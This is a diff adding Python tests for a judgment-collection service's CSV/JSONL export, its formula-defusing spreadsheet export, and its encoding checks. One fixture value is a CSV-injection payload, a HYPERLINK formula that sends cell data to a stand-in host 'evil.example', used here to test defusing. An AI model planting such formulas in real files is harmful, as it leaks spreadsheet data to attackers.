@@ -128,3 +128,80 @@ def test_the_command_reads_the_judgments_of_the_database(client, server, run, fo
     there, here = client.get("/v1/collections/small/ranking").json(), json.loads(said)
     assert here["model"] == "joint-fine"
     check_close({name: there[name] for name in here}, here)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
+
+
+@pytest.fixture(scope="module")
+def told(server, small):
+    """Two pairs: one judged under a lease with all there is to say, and revised; one that cannot be judged."""
+    with httpx.Client(base_url=server.url, timeout=30) as client:
+        first, second = client.post(
+            JUDGMENTS.replace("judgments", "next"), json={"assessor": "eve", "count": 2}
+        ).json()["pairs"]
+        said = {"query": first["query"], "document": first["document"], "assessor": "eve"}
+        more = {
+            "seconds": 12.5,
+            "played_s": 30,
+            "query_played_s": 10,
+            "document_played_s": 20,
+            "note": HOSTILE + "\nnext line",
+        }
+        assert client.post(JUDGMENTS, json=said | {"fine": 1}).status_code == 201
+        assert client.post(JUDGMENTS, json=said | {"fine": 70} | more).status_code == 201
+        cannot = {"query": second["query"], "document": second["document"], "assessor": "eve", "cannot": "@noise"}
+        assert client.post(JUDGMENTS, json=cannot).status_code == 201
+    return first, second
+
+
+def test_csv_and_json_lines_carry_everything(client, told, small, folders, tmp_path):
+    first, second = told
+    records = [json.loads(line) for line in client.get(JUDGMENTS, params={"format": "jsonl"}).text.splitlines()]
+    mine = {(record["query"], record["document"]): record for record in records if record.get("assessor") == "eve"}
+    judged, refused = (mine[pair["query"], pair["document"]] for pair in told)
+    assert (judged["grade"], judged["fine"], judged["note"]) == (70, 70, HOSTILE + "\nnext line")
+    heard = {name: judged[name] for name in ("seconds", "played_s", "query_played_s", "document_played_s")}
+    assert heard == {"seconds": 12.5, "played_s": 30, "query_played_s": 10, "document_played_s": 20}
+    assert (refused["cannot"], "grade" in refused) == ("@noise", False)
+    assert refused["leased"] < refused["until"] == second["until"]
+    rows = list(csv.DictReader(io.StringIO(client.get(JUDGMENTS, params={"format": "csv"}).text)))
+    row = next(row for row in rows if row["assessor"] == "eve" and row["grade"])
+    assert (row["fine"], row["note"], row["played_s"]) == ("70", HOSTILE + "\\nnext line", "30")
+    for form in ("csv", "jsonl"):
+        path = tmp_path / f"judgments.{form}"
+        path.write_bytes(client.get(JUDGMENTS, params={"format": form}).content)
+        read = Collection.load(folders[0], judgments=path).judgments
+        assert [(one.document, one.grade) for one in read if one.assessor == "eve"] == [(first["document"], 70)]
+
+
+def test_a_form_for_spreadsheets_defuses_formulas_and_says_so(client, told):
+    plain = client.get(JUDGMENTS, params={"format": "csv"})
+    answer = client.get(JUDGMENTS, params={"format": "spreadsheet"})
+    assert answer.headers["content-disposition"].endswith('-spreadsheet.csv"')
+    assert "audiosim-defused" not in plain.headers
+    before, after = (list(csv.reader(io.StringIO(one.text))) for one in (plain, answer))
+    pairs = [(a, b) for one, other in zip(before, after, strict=True) for a, b in zip(one, other, strict=True)]
+    changed = [(a, b) for a, b in pairs if a != b]
+    assert len(changed) == int(answer.headers["audiosim-defused"]) == 2
+    assert changed == [(HOSTILE + "\\nnext line", "'" + HOSTILE + "\\nnext line"), ("@noise", "'@noise")]
+    assert not any(b[:1] in tuple("=+-@\t\r") for _, b in pairs if b)
+
+
+@pytest.mark.parametrize(
+    ("body", "message"),
+    [
+        (b"\xef\xbb\xbf{}", "the body is not JSON: it starts with a byte order mark, which JSON has not"),
+        ('{"query": "q0"}'.encode("utf-16"), "the body is not JSON: it looks like UTF-16 or UTF-32, expected UTF-8"),
+        ('{"query": "q0"}'.encode("utf-16-le"), "the body is not JSON: it looks like UTF-16 or UTF-32, expected UTF-8"),
+        (b'{"query": "\\ud800"}', "the body holds a lone surrogate, which is no text"),
+    ],
+)
+def test_a_body_in_another_encoding_is_told_so(client, body, message):
+    refused = client.post(JUDGMENTS, content=body)
+    assert (refused.status_code, refused.json()["detail"]) == (422, message)
+
+
+def test_files_in_another_encoding_are_told_so(client):
+    refused = client.post(f"{JUDGMENTS}/import", content="query,document,fine\n".encode("utf-16"))
+    assert refused.json()["detail"] == "line 1: the file looks like UTF-16, expected UTF-8 text: save it as UTF-8"
